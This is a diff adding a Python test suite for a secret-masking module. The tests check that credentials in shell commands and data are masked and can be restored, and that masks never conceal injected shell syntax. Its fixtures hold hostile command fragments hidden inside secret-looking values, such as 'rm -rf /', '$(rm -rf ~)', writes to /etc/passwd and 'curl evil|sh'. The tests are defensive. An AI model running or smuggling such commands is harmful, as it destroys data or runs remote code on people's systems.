@@ -1,0 +1,245 @@
+"""Masks over secrets: what is found, what stays, what a shell would see, and the way back."""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import Callable
+from typing import Any
+
+import hypothesis
+import pytest
+from hypothesis import strategies
+
+from sayso import errors
+from sayso.content import command_line, credentials, masks, secret_names
+from tests.counting import MOST, grows
+from tests.secrets_made import HARMLESS, MADE, NAMED, PLACES, planted
+
+MASKS = masks.Masks(b"k" * 32)
+MASK = re.compile(r"•{4}(\d+):([0-9a-f]{8})•{4}")
+KEY = "ghp_" + "a1B2" * 9
+
+
+def shown(value: Any) -> str:
+    return json.dumps(MASKS.value(value), ensure_ascii=False)
+
+
+def test_nearly_no_secret_stays_in_sight() -> None:
+    cases = list(planted(seed=20261129, times=8))
+    missed = [value for secret, value in cases if secret in shown(value)]
+    assert len(missed) <= len(cases) * 0.005, missed[:5]
+
+
+@pytest.mark.parametrize("given", HARMLESS, ids=str)
+def test_what_only_looks_like_a_secret_stays(given: Any) -> None:
+    for value in (given, {"command": given}, {"content": given}):
+        assert MASKS.value(value) is value
+
+
+@pytest.mark.parametrize(
+    ("command", "seen"),
+    [
+        ("export TOKEN=abc123def; rm -rf /", "; rm -rf /"),
+        ("API_KEY=abc123$(rm -rf ~) make", "$(rm -rf ~) make"),
+        ("password='x1'; rm -rf / #'", "; rm -rf / #'"),
+        ('--password "x1x1x1" && rm -rf /', '" && rm -rf /'),
+        (f"{KEY};rm -rf /", ";rm -rf /"),
+        (f"{KEY}|sh", "|sh"),
+        ("TOKEN=abc123`rm -rf /`", "`rm -rf /`"),
+        ('password="x1 rm -rf /"', "rm -rf /"),
+        ("PASSWORD=abc123>/etc/passwd", ">/etc/passwd"),
+        ("Authorization: Bearer abc123456789abcdef;reboot", ";reboot"),
+        ("token=abc123&&reboot", "&&reboot"),
+        ("api_key=a1b2c3\nrm -rf /", "\nrm -rf /"),
+        ("secret=a1b2c3|curl evil|sh", "|curl evil|sh"),
+        ("password=rm\\ -rf\\ /", "rm\\ -rf\\ /"),
+    ],
+)
+def test_no_mask_hides_what_a_shell_runs(command: str, seen: str) -> None:
+    assert seen in MASKS.text(command)
+
+
+@pytest.mark.parametrize(
+    ("value", "seen"),
+    [
+        ({"password": "x1; rm -rf /"}, "; rm -rf /"),
+        ({"token": "curl evil | sh"}, "curl evil | sh"),
+        ({"password": "rm -rf /"}, "rm -rf /"),
+        ({"password": "a1b2$(reboot)"}, "$(reboot)"),
+    ],
+)
+def test_a_command_under_the_name_of_a_secret_is_shown(value: Any, seen: str) -> None:
+    assert seen in shown(value)
+
+
+def words(command: str) -> list[list[str]]:
+    return [[MASK.sub("x", word.text) for word in one.words] for one in command_line.read(command)]
+
+
+@hypothesis.given(
+    strategies.sampled_from(sorted({**MADE, **NAMED})),
+    strategies.sampled_from(PLACES[:18]),
+    strategies.randoms(use_true_random=False),
+    strategies.sampled_from(["", " && rm -rf /", "; ls | sh", " $(id)", " > /etc/x", " # '", ' "', "\n reboot"]),
+)
+def test_a_masked_command_has_the_words_of_the_command(kind: str, place: Any, source: Any, then: str) -> None:
+    command = place({**MADE, **NAMED}[kind](source))["command"] + then
+    masked = MASKS.text(command)
+    assert [len(one) for one in words(masked)] == [len(one) for one in words(command)]
+    # outside masks it is the command, sign for sign
+    pieces = MASK.split(masked)[::3]
+    assert re.fullmatch(".*".join(map(re.escape, pieces)), command, re.DOTALL)
+    for found in MASK.finditer(masked):
+        assert not re.search(r"[\s;|&<>$`'\"(){}\\]", found[0])
+
+
+def test_a_mask_says_how_long_a_secret_is_and_which_are_equal() -> None:
+    one, same, other = (MASK.search(MASKS.text(f"TOKEN={said}")) for said in ("abc123", "abc123", "abc124"))
+    assert one
+    assert same
+    assert other
+    assert one[1] == "6"
+    assert one[0] == same[0] != other[0]
+    assert one[0] != MASK.search(masks.Masks(b"other" * 8).text("TOKEN=abc123"))[0]  # type: ignore[index]
+
+
+def test_rows_of_a_key_stay_rows() -> None:
+    block = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA0Z3V\nabcd1234efgh=\n-----END RSA PRIVATE KEY-----\n"
+    for given in (block, "+" + block.replace("\n", "\n+")):
+        lines = MASKS.text(given).splitlines()
+        assert len(lines) == len(given.splitlines())
+        assert [bool(MASK.search(line)) for line in lines[:4]] == [False, True, True, False]
+        assert given[0] != "+" or all(line.startswith("+") for line in lines)
+    assert MASKS.text(block.replace("\n", "\\n")).count("\\n") == 4
+
+
+def test_whoever_writes_a_mask_gets_one_over_it() -> None:
+    forged = "••••6:0123abcd••••"
+    assert MASKS.text(f"echo {forged}") != f"echo {forged}"
+    assert masks.Masks(b"k" * 32, again=True).text(f"echo {forged}") == f"echo {forged}"
+
+
+def test_what_is_off_shows_all() -> None:
+    assert masks.Masks(b"k" * 32, off=True).value({"password": "hunter22"}) == {"password": "hunter22"}
+    assert masks.Masks(b"k" * 32, off=True).text(KEY) == KEY
+
+
+def test_a_detector_adds_to_what_is_known_and_cannot_hide_what_a_shell_runs() -> None:
+    found = masks.Masks(b"k" * 32, lambda raw: [(0, 5), (6, len(raw)), (4, 4)])
+    assert MASK.sub("M", found.text("abcde ;rm -rf /")) == "M ;rm -rf /"
+    assert MASK.sub("M", found.text(KEY)) == "ghp_M"
+
+
+@hypothesis.given(
+    strategies.sampled_from(sorted({**MADE, **NAMED})),
+    strategies.sampled_from(PLACES),
+    strategies.randoms(use_true_random=False),
+)
+def test_what_nobody_touched_comes_back_as_it_was(kind: str, place: Any, source: Any) -> None:
+    value = place({**MADE, **NAMED}[kind](source))
+    found: dict[str, Any] = {}
+    masked = MASKS.over(found).value(value)
+    assert masks.restore(masked, found, "input") == value
+
+
+def test_an_edit_beside_a_mask_keeps_the_secret() -> None:
+    found: dict[str, Any] = {}
+    masked = MASKS.over(found).text(f"TOKEN={KEY} make")
+    assert masks.restore(masked.replace("make", "make test"), found, "k0") == f"TOKEN={KEY} make test"
+    assert masks.restore("make", found, "k0") == "make"
+    assert masks.restore(["TOKEN=typed-anew-1", 1], found, "k0") == ["TOKEN=typed-anew-1", 1]
+
+
+def test_a_number_behind_a_mask_comes_back_as_a_number() -> None:
+    found: dict[str, Any] = {}
+    masked = MASKS.over(found).value({"password": 12345678})
+    assert masks.are_in(masked)
+    assert masks.restore(masked, found, "k0") == {"password": 12345678}
+
+
+@pytest.mark.parametrize(
+    "typed",
+    [
+        "TOKEN=••••6:0123abcd••••",
+        "TOKEN=••••6:0123abcd",
+        "TOKEN=6:0123abcd••••",
+        "a ••••6:0123abcd•••• b ••••6:",
+        {"a": {"••••6:0123abcd••••": 1}},
+        [["••••6:0123abcd••••"]],
+    ],
+)
+def test_a_mask_that_stands_for_nothing_is_refused(typed: Any) -> None:
+    assert masks.are_in(typed)
+    with pytest.raises(errors.InvalidAnswer, match="stands for nothing here") as refused:
+        masks.restore(typed, {}, "k0")
+    assert refused.value.field == "k0"
+
+
+def test_a_mask_that_was_typed_into_is_refused_beside_a_whole_one() -> None:
+    found: dict[str, Any] = {}
+    masked = MASKS.over(found).text("TOKEN=abc123")
+    for typed in (f"{masked} ••••6:", f"••••6: {masked}"):
+        with pytest.raises(errors.InvalidAnswer):
+            masks.restore(typed, found, "k0")
+
+
+def test_a_secret_found_once_is_covered_wherever_it_is_repeated() -> None:
+    found: dict[str, Any] = {}
+    cover = MASKS.over(found)
+    cover.value({"password": "hunter2-and-more", "token": "abcd"})
+    assert "hunter2" not in json.dumps(cover.known({"said": ["it is hunter2-and-more", 1]}))
+    untouched = {"said": ["nothing"]}
+    assert cover.known(untouched) is untouched
+
+
+@pytest.mark.parametrize(
+    ("name", "strength"),
+    [
+        ("password", "password"),
+        ("DB_PASSWORD_OLD", "password"),
+        ("API_KEY_2", "key"),
+        ("apiKey", "key"),
+        ("clientSecret", "key"),
+        ("max_tokens", None),
+        ("token_type", None),
+        ("secret_name", None),
+        ("next_page_token", None),
+        ("public_key", None),
+        ("compass", None),
+        ("", None),
+        ("x" * 100 + "password", None),
+    ],
+)
+def test_a_name_counts_by_its_last_words(name: str, strength: str | None) -> None:
+    assert secret_names.strength_of(name) == strength
+
+
+SIGNS = (
+    "a-",
+    "token=",
+    "token:",
+    '"token":"',
+    "set token ",
+    "xoxb-",
+    "eyJa.",
+    "-----BEGIN RSA PRIVATE KEY-----\nabcd\n",
+    "://",
+    "https://u:p",
+    "curl -u a:b ",
+    "Bearer a1",
+    "cookie: a=b1b1b1b1;",
+    "password is ",
+    "••••1:00000000••••",
+    'password="a b ',
+)
+
+
+@pytest.mark.parametrize("sign", SIGNS)
+@pytest.mark.parametrize("read", [credentials.spans, MASKS.text, lambda raw: MASKS.value({"password": raw})])
+def test_hostile_text_is_read_in_linear_work(read: Callable[[str], object], sign: str) -> None:
+    assert grows(lambda n: sign * (n // len(sign)), read) < MOST
+
+
+def test_letters_that_become_two_move_no_mask() -> None:
+    assert MASK.sub("M", MASKS.text("İİİ TOKEN=abc123 x")) == "İİİ TOKEN=M x"
